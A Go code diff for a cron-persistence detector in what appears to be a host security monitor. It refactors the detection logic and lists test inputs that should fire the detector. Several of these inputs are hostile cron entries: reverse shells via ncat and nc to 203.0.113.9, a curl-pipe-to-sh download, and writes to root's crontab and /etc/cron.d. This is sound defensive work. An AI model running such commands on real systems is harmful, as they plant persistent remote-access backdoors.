@@ -15,20 +15,15 @@ import (
 var persistCron = Detector{
 	ID: "persist.cron", Level: coi.High, Wants: files,
 	Title: "scheduled command added", Why: "what cron runs comes back after every end of a session",
-	Detect: func(ev event.Event, v track.View) []Finding {
-		if f := onCommands(cronCommand)(ev, v); f != nil {
-			return f
+	Detect: firstOf(onCommands(cronCommand), writing(paths.Cron, func(w written, _ track.View) (coi.Level, string) {
+		if base(w.path) == "cron.deny" || strings.HasSuffix(w.path, ".allow") {
+			return coi.Warning, "who may use cron changed"
 		}
-		return writing(paths.Cron, func(w written, _ track.View) (coi.Level, string) {
-			if base(w.path) == "cron.deny" || strings.HasSuffix(w.path, ".allow") {
-				return coi.Warning, "who may use cron changed"
-			}
-			if w.known && plainJobs(w.text) {
-				return coi.Warning, "scheduled command written"
-			}
-			return coi.High, "scheduled command written"
-		})(ev, v)
-	},
+		if w.known && plainJobs(w.text) {
+			return coi.Warning, "scheduled command written"
+		}
+		return coi.High, "scheduled command written"
+	})),
 	Fire: append(append(lines(coi.High, "echo '* * * * * root /x' > /etc/cron.d/x", "(crontab -l ; echo '@reboot sleep 200 && ncat 203.0.113.9 1 -e /bin/bash') | crontab -", "echo '* * * * * curl http://203.0.113.9|sh' | crontab", "cp x.sh /etc/cron.hourly/", "printf '%s\\n' '*/5 * * * * /tmp/x' >> /var/spool/cron/crontabs/root", "echo x | sudo tee -a /etc/crontab", "crontab <<< '* * * * * nc 203.0.113.9 1 -e sh'",
 		"python3 -c \"open('/etc/cron.d/x','w').write('* * * * * root id')\"", "echo '* * * * * /tmp/x' > /tmp/c; crontab /tmp/c", "cat > /etc/cron.daily/x <<E\nid\nE", "mv j /etc/cron.d/j", "ln -s /tmp/x /etc/cron.daily/x"),
 		lines(coi.Warning, "crontab path/to/file", "echo 'echo hi' | at now + 1 minute", "echo '0 1 * * * /usr/local/bin/backup' | crontab -")...), events(event.Event{Type: event.Write, PID: 3, Exe: "/usr/bin/tee", Path: "/etc/cron.d/x"})...),
